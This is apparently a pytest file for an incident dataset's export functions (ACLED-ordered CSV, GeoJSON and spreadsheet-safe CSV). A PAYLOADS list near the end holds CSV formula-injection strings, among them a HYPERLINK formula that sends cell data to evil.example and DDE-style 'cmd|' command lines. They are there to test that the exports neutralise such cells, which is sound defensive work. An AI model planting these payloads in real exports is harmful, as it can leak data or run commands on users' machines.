"""incidents.dataset.exports: CSV in ACLED's column order and GeoJSON of a filtered incident set."""

from __future__ import annotations

import io
import json

import pandas as pd
import pytest

from incidents import ROOT
from incidents.dataset import synth
from incidents.dataset.exports import (
    export_columns,
    inert_cell,
    to_csv_bytes,
    to_geojson,
    to_geojson_bytes,
    to_spreadsheet_csv_bytes,
)
from incidents.filters import Filters
from incidents.schema import ACLED_COLUMNS, INCIDENT_COLUMNS
from incidents.store.store import Store


@pytest.fixture(scope="module")
def frame(tmp_path_factory) -> pd.DataFrame:
    """What the Incidents page downloads: Store.incidents under filters, from synthetic data."""
    folder = tmp_path_factory.mktemp("exports")
    synth.write(folder, *synth.generate(300, seed=3))
    return Store.open(folder, cache=False).run("incidents", Filters(governorates=None))


def test_csv_header_is_acled_order_first(frame):
    header = to_csv_bytes(frame).decode("utf-8").splitlines()[0].split(",")
    assert header[: len(ACLED_COLUMNS)] == list(ACLED_COLUMNS)
    assert header[: len(INCIDENT_COLUMNS)] == list(INCIDENT_COLUMNS)


def test_csv_round_trips_every_row_and_value(frame):
    back = pd.read_csv(io.BytesIO(to_csv_bytes(frame)), dtype=str, keep_default_na=False)
    assert len(back) == len(frame)
    assert back["event_id"].tolist() == frame["event_id"].tolist()
    assert back["event_date"].tolist() == frame["event_date"].fillna("").tolist()
    assert back["fatalities"].tolist() == frame["fatalities"].astype("string").fillna("").tolist()


@pytest.mark.parametrize(("columns", "expected_tail"), [
    (["event_id", "notes"], []),
    (["extra_b", "event_id", "extra_a"], ["extra_b", "extra_a"]),
])
def test_export_columns_keep_extras_after_ours(columns, expected_tail):
    cols = export_columns(pd.DataFrame(columns=columns))
    assert cols[: len(INCIDENT_COLUMNS)] == list(INCIDENT_COLUMNS)
    assert cols[len(INCIDENT_COLUMNS):] == expected_tail


def test_geojson_has_one_point_per_located_incident(frame):
    gj = json.loads(to_geojson_bytes(frame))
    assert gj["type"] == "FeatureCollection" and len(gj["features"]) == len(frame)
    for feat, (_, row) in zip(gj["features"], frame.iterrows(), strict=True):
        assert feat["properties"]["event_id"] == row["event_id"]
        if pd.isna(row["latitude"]):
            assert feat["geometry"] is None
        else:
            assert feat["geometry"] == {"type": "Point",
                                        "coordinates": [float(row["longitude"]), float(row["latitude"])]}
        assert "latitude" not in feat["properties"]


@pytest.mark.parametrize(("value", "expected"), [
    (pd.NA, None), (float("nan"), None), (None, None), (pd.Timestamp("2024-05-02 13:00"), "2024-05-02"),
    (3, 3), ("<b>text</b>", "<b>text</b>"),
])
def test_geojson_values_are_json_safe(value, expected):
    gj = to_geojson(pd.DataFrame({"event_id": ["x"], "notes": pd.Series([value], dtype=object),
                                  "latitude": [None], "longitude": [None]}))
    assert gj["features"][0]["properties"]["notes"] == expected
    assert gj["features"][0]["geometry"] is None
    json.dumps(gj)


@pytest.mark.skipif(not (ROOT / "data" / "incidents.csv").exists(), reason="data/ not built yet")
def test_shipped_data_exports():
    inc = Store.open(ROOT / "data").run("incidents", Filters(governorates=None, countries=()))
    csv = pd.read_csv(io.BytesIO(to_csv_bytes(inc)), dtype=str, keep_default_na=False)
    assert list(csv.columns[: len(ACLED_COLUMNS)]) == list(ACLED_COLUMNS)
    assert set(csv["quote"]) == set(inc["quote"].fillna(""))
    gj = to_geojson(inc)
    assert sum(f["geometry"] is not None for f in gj["features"]) == int(inc["latitude"].notna().sum())


PAYLOADS = [  # cells that spreadsheets run as formulas (from the probes of issue 16 and OWASP's list)
    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_spreadsheet_csv_makes_every_formula_cell_inert(payload):
    inc = Store.open(ROOT / "data").run("incidents", Filters(governorates=None, countries=()))
    inc = inc.head(5).copy()
    for col in ("notes", "quote", "actor1", "location", "source"):
        inc[col] = payload
    data = to_spreadsheet_csv_bytes(inc)
    assert data.startswith(b"\xef\xbb\xbf")
    back = pd.read_csv(io.BytesIO(data[3:]), dtype=str, keep_default_na=False)
    for col in ("notes", "quote", "actor1", "location", "source"):
        assert (back[col] == "'" + payload).all(), col
    # numbers stay numbers, and the data export keeps the value as stored
    assert list(back["fatalities"]) == [str(int(v)) if pd.notna(v) else "" for v in inc["fatalities"]]
    raw = pd.read_csv(io.BytesIO(to_csv_bytes(inc)), dtype=str, keep_default_na=False)
    assert (raw["notes"] == payload).all()


@pytest.mark.parametrize("value", ["-5", "-2.5", "+3", "Kirkuk", "", "a=b", "2024-01-01"])
def test_plain_values_are_left_alone(value):
    assert inert_cell(value) == value
